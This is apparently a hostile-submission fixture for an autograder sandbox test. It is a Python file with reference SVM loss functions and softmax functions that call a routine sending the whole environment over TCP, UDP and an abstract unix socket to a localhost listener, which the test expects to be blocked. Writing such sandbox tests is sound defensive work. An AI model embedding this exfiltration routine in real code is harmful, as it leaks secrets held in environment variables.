"""Hostile submission ``network_exfiltration``: phone home over TCP, UDP and an abstract unix socket.

On its first call per worker, tries to reach an accomplice on 127.0.0.1 (TCP and UDP)
and ::1 at the port the test listens on (written into this file by the test), and an
abstract unix socket named after that port, sending its own source and environment
and asking for answers. Its softmax functions only work if the accomplice answers, so
they raise; its SVM functions are the reference.

Expected: the worker has its own empty network namespace and seccomp denies
non-unix sockets: every attempt fails, the listener accepts nothing.
"""

import os
import sys

import numpy as np

ATTACK = "network_exfiltration"


def _say(message):
    """Leave a line in the captured output (fd 2), whatever the student did to sys.stderr."""
    try:
        os.write(2, ("HOSTILE[%s]: %s\n" % (ATTACK, message)).encode("utf-8", "replace"))
    except OSError:
        pass


def _template(value):
    """Values the test writes into its copy of this file; None when left as a placeholder."""
    return None if value.startswith("__HOSTILE") else value


import socket

_PORT = _template("__HOSTILE_PORT__")
_TRIED = []


def _phone_home():
    if _TRIED:
        return _TRIED[0]
    port = int(_PORT) if _PORT else 9
    payload = ("HOSTILE-EXFIL %r" % (dict(os.environ),)).encode()
    outcomes = []
    attempts = [
        ("tcp4", lambda: socket.create_connection(("127.0.0.1", port), timeout=0.3)),
        ("tcp6", lambda: socket.create_connection(("::1", port), timeout=0.3)),
    ]
    for name, connect in attempts:
        try:
            with connect() as sock:
                sock.sendall(payload)
                outcomes.append(name + ": CONNECTED")
        except Exception as exc:
            outcomes.append("%s: %s" % (name, type(exc).__name__))
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(payload[:512], ("127.0.0.1", port))
            outcomes.append("udp4: SENT")
    except Exception as exc:
        outcomes.append("udp4: %s" % type(exc).__name__)
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
            sock.settimeout(0.3)
            sock.connect("\0propgrade-hostile-%d" % port)
            sock.sendall(payload)
            outcomes.append("unix-abstract: CONNECTED")
    except Exception as exc:
        outcomes.append("unix-abstract: %s" % type(exc).__name__)
    summary = "; ".join(outcomes)
    _say(summary)
    _TRIED.append(summary)
    return summary


def svm_loss_naive(W, X, y, reg):
    W = np.asarray(W, dtype=np.float64)  # no copy for float64 input: never write into W or X
    X = np.asarray(X, dtype=np.float64)
    num_train = X.shape[0]
    num_classes = W.shape[1]
    loss = 0.0
    dW = np.zeros(W.shape, dtype=np.float64)
    for i in range(num_train):
        scores = X[i].dot(W)
        correct_class_score = scores[y[i]]
        for j in range(num_classes):
            if j == y[i]:
                continue
            margin = scores[j] - correct_class_score + 1.0  # delta = 1
            if margin > 0:
                loss += margin
                dW[:, j] += X[i]
                dW[:, y[i]] -= X[i]
    loss /= num_train
    dW /= num_train
    loss += reg * np.sum(W * W)
    dW += 2 * reg * W
    return float(loss), dW


def svm_loss_vectorized(W, X, y, reg):
    W = np.asarray(W, dtype=np.float64)  # no copy for float64 input: never write into W or X
    X = np.asarray(X, dtype=np.float64)
    num_train = X.shape[0]
    rows = np.arange(num_train)
    scores = X.dot(W)  # (N, C)
    correct_class_scores = scores[rows, y][:, np.newaxis]  # (N, 1)
    margins = np.maximum(0.0, scores - correct_class_scores + 1.0)  # delta = 1
    margins[rows, y] = 0.0  # the correct class never contributes
    loss = np.sum(margins) / num_train + reg * np.sum(W * W)

    # d loss_i / d s_j is 1 for every active margin j and -(number of active margins)
    # for j = y[i]. Each row is written once, so repeated labels are handled correctly.
    coeff = (margins > 0).astype(np.float64)  # (N, C)
    coeff[rows, y] = -np.sum(coeff, axis=1)
    dW = X.T.dot(coeff) / num_train + 2 * reg * W
    return float(loss), dW


def softmax_loss_naive(W, X, y, reg):
    raise ConnectionError("no answers from the accomplice: " + _phone_home())


def softmax_loss_vectorized(W, X, y, reg):
    raise ConnectionError("no answers from the accomplice: " + _phone_home())
